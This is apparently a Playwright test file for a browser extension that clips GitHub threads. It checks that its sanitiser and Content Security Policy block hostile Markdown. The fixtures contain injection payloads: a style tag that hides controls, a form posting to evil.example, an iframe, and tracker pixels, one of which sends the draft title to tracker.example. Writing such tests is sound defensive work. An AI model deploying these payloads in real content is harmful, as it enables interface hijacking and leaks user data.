import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { readFixture } from '../support/pages';
import { extensionDir, launchExtension, type ExtensionSession } from './support/extension';
import { readDraft, waitForStatus } from './support/ui';

const THREAD = 'https://github.com/mosn/mosn/issues/2203';

/** Page content that restyles the popup, submits it elsewhere, frames a site and tracks whoever reads it. */
const HOSTILE_ANSWER = [
  '<style>button{visibility:hidden}</style>',
  '<form action="https://evil.example/"><input name="q" value="draft"><button>Send</button></form>',
  '<iframe src="https://evil.example/frame"></iframe> Framed.',
  '![pixel](https://tracker.example/p.gif)',
  // After the tracker: once this one is asked for, the preview's images have all been seen.
  '![avatar](https://avatars.githubusercontent.com/u/1)',
  '[the thread](https://github.com/mosn/mosn/issues/2203)',
].join('\n\n');

const HOSTILE_NAME = 'Hostile: hides every control of the options page';
/** Hides every element once rendered, and sends the draft's title to a tracker. */
const HOSTILE_TEMPLATE = '<style>*{display:none}</style>\n\n# {{ draft.title }}\n\n![t](https://tracker.example/t.gif?title={{ draft.title | url_encode }})\n';

/** Every enabled button outside the preview is shown and would take a click. */
async function expectControlsUsable(page: Page, preview: string) {
  const buttons = await page.locator(`button:not(${preview} *)`).all();
  expect(buttons.length).toBeGreaterThan(3);
  for (const button of buttons) {
    expect(await button.isVisible()).toBe(true);
    if (await button.isEnabled()) await button.click({ trial: true, timeout: 2000 });
  }
}

describe('the previews keep to the extension and to GitHub, in Chromium', () => {
  let session: ExtensionSession;
  /** Every request a page started, even one its policy then refused. */
  const requested: string[] = [];
  /** Requests to the hostile hosts that got past the pages' policy, out of the browser. */
  const sent: string[] = [];
  const asked = (pattern: RegExp) => requested.filter((url) => pattern.test(url));
  /** What the pages' policy refused, as Chromium reports it on the console. */
  const refused: string[] = [];
  /**
   * The sanitiser parses hostile HTML in an inert document, which shares its page's policy: a
   * `<style>` there is refused before the sanitiser drops it. Anything else refused was needed.
   */
  const refusedBesidesHostileStyle = () => refused.filter((message) => !message.startsWith('Applying inline style'));

  beforeAll(async () => {
    session = await launchExtension();
    session.servePage(THREAD, readFixture('react-issue.html'));
    session.context.on('request', (request) => requested.push(request.url()));
    session.context.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) refused.push(message.text());
    });
    await session.context.route(
      (url) => /^(tracker|evil)\.example$/.test(url.hostname),
      (route) => {
        sent.push(route.request().url());
        return route.abort('blockedbyclient');
      },
    );
  });

  afterAll(() => session?.close());

  it('declares a policy that lets the pages contact no host but GitHub', () => {
    // connect-src: GitHub's API alone, for the author's own Markdown of a clipped post.
    const policy =
      "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'self'; img-src 'self' data: https://github.com https://*.githubusercontent.com; connect-src https://api.github.com; object-src 'none'; form-action 'none'; base-uri 'none'";
    const chrome = JSON.parse(readFileSync(`${extensionDir}/manifest.json`, 'utf8'));
    expect(chrome.content_security_policy).toEqual({ extension_pages: policy });
    // Firefox's MV2 manifest takes the policy as a string (npm test builds it too).
    const firefox = resolve(extensionDir, '../firefox-mv2/manifest.json');
    if (existsSync(firefox)) expect(JSON.parse(readFileSync(firefox, 'utf8')).content_security_policy).toBe(policy);
  });

  it("shows a hostile clip in the popup's preview without letting it restyle, submit, frame or track", async () => {
    const page = await session.context.newPage();
    await page.goto(THREAD);
    await page.getByRole('button', { name: 'Clip as answer' }).first().click();
    await waitForStatus(page, 'answer by @nejisama');
    await page.close();

    const { popup } = await readDraft(session);
    await expect.poll(() => popup.getByRole('region', { name: 'Preview' }).locator('pre code').count()).toBeGreaterThan(0);
    // Nothing the popup needs (its scripts, styles, the template worker, the preview) is refused.
    expect(refused).toEqual([]);
    await popup.getByRole('button', { name: 'Edit mosn/mosn#2203' }).click();
    await popup.getByLabel('Answer Markdown').fill(HOSTILE_ANSWER);
    await popup.getByRole('button', { name: 'Save' }).click();
    const preview = popup.getByRole('region', { name: 'Preview' });
    await expect.poll(() => preview.getByRole('link', { name: 'the thread' }).count()).toBe(1);
    await expect.poll(() => requested).toContain('https://avatars.githubusercontent.com/u/1');

    // The preview never even asks: its policy is the second line of defence, tested below.
    expect(asked(/tracker\.example|evil\.example/)).toEqual([]);
    expect(await preview.locator('style, form, input, button, iframe, [style]').count()).toBe(0);
    expect(await preview.textContent()).toContain('Framed.');
    expect(await preview.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src')))).toEqual([
      'https://avatars.githubusercontent.com/u/1',
    ]);
    const standIn = preview.getByRole('link', { name: 'image from tracker.example, not loaded: open it in a new tab' });
    expect(await standIn.getAttribute('href')).toBe('https://tracker.example/p.gif');
    expect(await standIn.getAttribute('target')).toBe('_blank');

    await expectControlsUsable(popup, '.markdown-preview');

    const [opened] = await Promise.all([session.context.waitForEvent('page'), preview.getByRole('link', { name: 'the thread' }).click()]);
    expect(popup.url()).toBe(`chrome-extension://${session.extensionId}/popup.html`);
    await expect.poll(() => opened.url()).toBe(THREAD);
    await opened.close();

    // The same clip, the next time the popup opens.
    await popup.reload();
    await expect.poll(() => popup.getByRole('region', { name: 'Preview' }).getByRole('link', { name: 'the thread' }).count()).toBe(1);
    await expectControlsUsable(popup, '.markdown-preview');
    expect(asked(/tracker\.example|evil\.example/)).toEqual([]);
    expect(refusedBesidesHostileStyle()).toEqual([]);
    await popup.close();
  });

  it('refuses, by its policy, an image from another host even when a script inserts it', async () => {
    const popup = await session.openPopup();
    const outcome = await popup.evaluate(
      () =>
        new Promise<string>((resolve) => {
          // The hostile clip's preview may meanwhile be refused its <style> (see refusedBesidesHostileStyle).
          document.addEventListener('securitypolicyviolation', (event) => {
            if (event.effectiveDirective === 'img-src') resolve(`${event.effectiveDirective} ${event.blockedURI}`);
          });
          const image = document.createElement('img');
          image.src = 'https://tracker.example/inserted.gif';
          image.addEventListener('load', () => setTimeout(() => resolve('loaded'), 500));
          image.addEventListener('error', () => setTimeout(() => resolve('failed, no violation'), 500));
          document.body.append(image);
        }),
    );
    expect(outcome).toBe('img-src https://tracker.example/inserted.gif');
    const connect = await popup.evaluate(() =>
      fetch('https://tracker.example/beacon').then(
        () => 'sent',
        (error: unknown) => String(error),
      ),
    );
    expect(connect).toMatch(/TypeError/);
    expect(sent).toEqual([]);
    expect(refused).toContainEqual(expect.stringContaining("Connecting to 'https://tracker.example/beacon' violates"));
    refused.length = 0;
    await popup.close();
  });

  it('keeps the options page usable under a hostile template, which its list can always delete', async () => {
    let options = await session.openOptions();
    await expect.poll(() => options.getByRole('region', { name: 'Preview', exact: true }).locator('pre code').count()).toBeGreaterThan(0);
    expect(refused).toEqual([]);
    await options.getByRole('button', { name: 'New template' }).click();
    // Long enough to be cut short in the list, whose column must still hold the row's buttons.
    await options.getByLabel('Template name').fill(HOSTILE_NAME);
    await options.getByLabel('Template source').fill(HOSTILE_TEMPLATE);
    const preview = options.getByRole('region', { name: 'Preview', exact: true });
    await expect.poll(() => preview.getByRole('heading').textContent()).toBe('Weekly digest');
    await options.getByRole('button', { name: 'Save template' }).click();
    const status = options.getByRole('region', { name: 'Templates' }).getByRole('status');
    await expect.poll(() => status.textContent()).toBe(`Saved the template “${HOSTILE_NAME}”.`);
    await options.getByRole('radio', { name: HOSTILE_NAME }).check();
    await expect.poll(() => status.textContent()).toBe(`The draft now uses “${HOSTILE_NAME}”.`);

    // Opened again, the options page shows the template in use, and renders it, first.
    await options.close();
    options = await session.openOptions();
    await expect.poll(() => options.getByRole('region', { name: 'Preview', exact: true }).getByRole('heading').textContent()).toBe('Weekly digest');
    expect(await options.locator('.markdown-preview style').count()).toBe(0);
    await expect.poll(() => options.getByRole('region', { name: 'Preview', exact: true }).getByText('image from tracker.example, not loaded').count()).toBe(1);
    await expectControlsUsable(options, '.markdown-preview');

    await options.getByRole('button', { name: `Delete ${HOSTILE_NAME}` }).click();
    await options
      .getByRole('group', { name: `Delete ${HOSTILE_NAME}` })
      .getByRole('button', { name: 'Yes, delete' })
      .click();
    await expect
      .poll(() => options.getByRole('region', { name: 'Templates' }).getByRole('status').textContent())
      .toBe(`Deleted the template “${HOSTILE_NAME}”.`);
    expect(await options.getByRole('radio', { name: HOSTILE_NAME }).count()).toBe(0);
    expect(await options.getByRole('radio', { name: 'Weekly digest' }).isChecked()).toBe(true);
    expect(asked(/tracker\.example\/t\.gif/)).toEqual([]);
    expect(sent).toEqual([]);
    expect(refusedBesidesHostileStyle()).toEqual([]);
    await options.close();
  });
});
